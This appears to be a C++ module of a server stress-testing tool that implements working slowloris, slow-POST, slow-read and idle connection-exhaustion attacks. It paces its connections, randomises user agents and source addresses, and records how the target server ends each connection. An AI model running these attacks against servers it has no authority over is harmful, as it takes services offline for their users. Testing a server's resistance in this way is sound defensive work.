// slowloris, slow-post, slow-read and connection-exhaustion: connections that hold the server's
// resources by going slow (or, for connection-exhaustion, by saying nothing at all).
// Each worker holds one connection at a time, opened at the attack's rate (connections per
// second) until spec.connections are open; a connection's outcome is counted once, when it ends:
// the status of an answer, closed or reset by the server, or held open until the storm ended.
// The "latency" of these streams is how long the server kept the connection.
#include <boost/asio/as_tuple.hpp>
#include <boost/asio/buffer.hpp>
#include <boost/asio/steady_timer.hpp>
#include <boost/asio/strand.hpp>
#include <boost/asio/use_awaitable.hpp>
#include <boost/asio/write.hpp>
#include <charconv>
#include <memory>

#include "storm/attack.h"
#include "storm/http_client.h"

namespace homeroom::storm {

namespace asio = boost::asio;
namespace beast = boost::beast;
using tcp = asio::ip::tcp;

namespace {

constexpr auto kTuple = asio::as_tuple(asio::use_awaitable);

// kIdle: connect and send nothing, as an unused browser preconnect does; the server's head
// deadline, an eviction at its global cap or a refusal at a cap ends the connection.
enum class SlowMode { kLoris, kPost, kRead, kIdle };

struct ReadResult {
  boost::system::error_code ec;  // beast::error::timeout when nothing came before `until`
  size_t bytes = 0;
};

// Reads what the server sends, waiting at most until `until`, without closing the socket when
// the wait ends (a timer cancels the read). The timer's handler and this coroutine both run on the
// socket's strand, so they never overlap; the handler may still run after this frame is gone (its
// expiry raced the read's completion), so it keeps what it reads in a shared state and touches the
// socket only while the read is still pending.
asio::awaitable<ReadResult> ReadSomeUntil(tcp::socket& socket, asio::mutable_buffer buffer,
                                          TimePoint until) {
  struct Race {
    bool read_done = false;
    bool fired = false;
  };
  auto race = std::make_shared<Race>();
  asio::steady_timer timer(socket.get_executor());
  timer.expires_at(until);
  timer.async_wait([&socket, race](boost::system::error_code ec) {
    if (ec || race->read_done) return;
    race->fired = true;
    boost::system::error_code ignored;
    socket.cancel(ignored);
  });
  auto [ec, n] = co_await socket.async_read_some(buffer, kTuple);
  race->read_done = true;
  timer.cancel();
  if (n > 0) co_return ReadResult{{}, n};
  if (race->fired && ec == asio::error::operation_aborted) {
    co_return ReadResult{beast::error::timeout, 0};
  }
  co_return ReadResult{ec, 0};
}

// "HTTP/1.1 408 Request Timeout" -> 408; 0 when the bytes are not a status line.
int StatusOf(std::string_view head) {
  if (head.size() < 12 || head.substr(0, 5) != "HTTP/") return 0;
  size_t space = head.find(' ');
  if (space == std::string_view::npos || space + 4 > head.size()) return 0;
  int status = 0;
  std::from_chars(head.data() + space + 1, head.data() + space + 4, status);
  return status;
}

asio::awaitable<void> SlowWorker(AttackContext& a, SlowMode mode, uint64_t worker) {
  std::mt19937_64 rng(a.Seed(worker));
  co_await SleepUntil(a.ctx.attack_start);
  auto executor = co_await asio::this_coro::executor;
  const StormConfig& config = a.ctx.config;
  uint64_t round = 0;
  while (co_await a.pacer.Next()) {
    ConnectionBudget::Slot slot = a.ctx.budget.TryAcquire();
    if (!slot) {
      a.stats.RecordError(NetError::kCapped, {});
      continue;
    }
    const uint64_t source = worker + round++ * static_cast<uint64_t>(a.spec.connections);
    beast::tcp_stream stream(executor);
    const TimePoint start = SteadyClock::now();
    boost::system::error_code ec =
        co_await ConnectFrom(stream, config.target, a.Source(source), a.ctx.ExchangeDeadline(),
                             mode == SlowMode::kRead ? 512 : 0);
    if (ec) {
      a.stats.RecordError(ClassifyError(ec), Since(start));
      continue;
    }
    stream.expires_never();
    tcp::socket& socket = stream.socket();
    std::string head;
    const std::string host = config.target.host_header;
    switch (mode) {
      case SlowMode::kLoris:
        head = "GET /?" + RandomToken(rng, 8) + " HTTP/1.1\r\nHost: " + host +
               "\r\nUser-Agent: " + RandomUserAgent(rng) + "\r\n";
        break;
      case SlowMode::kPost:
        head = "POST /api/v1/auth/login HTTP/1.1\r\nHost: " + host +
               "\r\nContent-Type: application/json\r\nContent-Length: " +
               std::to_string(config.slow_post_length) + "\r\nUser-Agent: " + RandomUserAgent(rng) +
               "\r\n\r\n{";
        break;
      case SlowMode::kRead:
        for (int i = 0; i < config.slow_read_pipeline; ++i) {
          head += "GET /api/v1/me?" + RandomToken(rng, 6) + " HTTP/1.1\r\nHost: " + host +
                  "\r\nUser-Agent: " + RandomUserAgent(rng) + "\r\n\r\n";
        }
        break;
      case SlowMode::kIdle:
        break;
    }
    if (!head.empty()) {
      auto [write_error, written] = co_await asio::async_write(socket, asio::buffer(head), kTuple);
      (void)written;
      if (write_error) {
        a.stats.RecordError(ClassifyError(write_error), Since(start));
        continue;
      }
    }
    a.stats.Count("opened");
    // Trickle (loris, post) or read a byte at a time (read), every slow_interval.
    std::string got;
    char byte_buffer[1];
    char head_buffer[512];
    while (true) {
      const TimePoint until = std::min(SteadyClock::now() + config.slow_interval, a.ctx.run_end);
      auto buffer = mode == SlowMode::kRead ? asio::buffer(byte_buffer) : asio::buffer(head_buffer);
      ReadResult r = co_await ReadSomeUntil(socket, buffer, until);
      if (r.bytes > 0) {
        if (mode == SlowMode::kRead) {
          a.stats.Count("bytes_read", r.bytes);
          // Read no faster than a byte per interval.
          co_await SleepUntil(until);
          if (!a.ctx.Running()) {
            a.stats.RecordError(NetError::kHeldOpen, Since(start));
            break;
          }
          continue;
        }
        got.append(head_buffer, r.bytes);
        a.stats.RecordStatus(StatusOf(got), Since(start));
        break;
      }
      if (r.ec != beast::error::timeout) {
        a.stats.RecordError(ClassifyError(r.ec), Since(start));
        break;
      }
      if (!a.ctx.Running()) {
        a.stats.RecordError(NetError::kHeldOpen, Since(start));
        break;
      }
      if (mode == SlowMode::kRead || mode == SlowMode::kIdle) continue;
      std::string more = mode == SlowMode::kLoris
                             ? "X-" + RandomToken(rng, 4) + ": " + RandomToken(rng, 2) + "\r\n"
                             : std::string("a");
      auto [e, n] = co_await asio::async_write(socket, asio::buffer(more), kTuple);
      (void)n;
      if (e) {
        a.stats.RecordError(ClassifyError(e), Since(start));
        break;
      }
    }
    boost::system::error_code ignored;
    socket.close(ignored);
  }
}

void Start(AttackContext& a, SlowMode mode) {
  for (int i = 0; i < a.spec.connections; ++i) {
    auto worker = SlowWorker(a, mode, static_cast<uint64_t>(i));
    a.ctx.Spawn(asio::make_strand(a.ctx.io), std::move(worker));
  }
}

}  // namespace

void StartSlowloris(AttackContext& a) { Start(a, SlowMode::kLoris); }
void StartSlowPost(AttackContext& a) { Start(a, SlowMode::kPost); }
void StartSlowRead(AttackContext& a) { Start(a, SlowMode::kRead); }
void StartConnectionExhaustion(AttackContext& a) { Start(a, SlowMode::kIdle); }

}  // namespace homeroom::storm
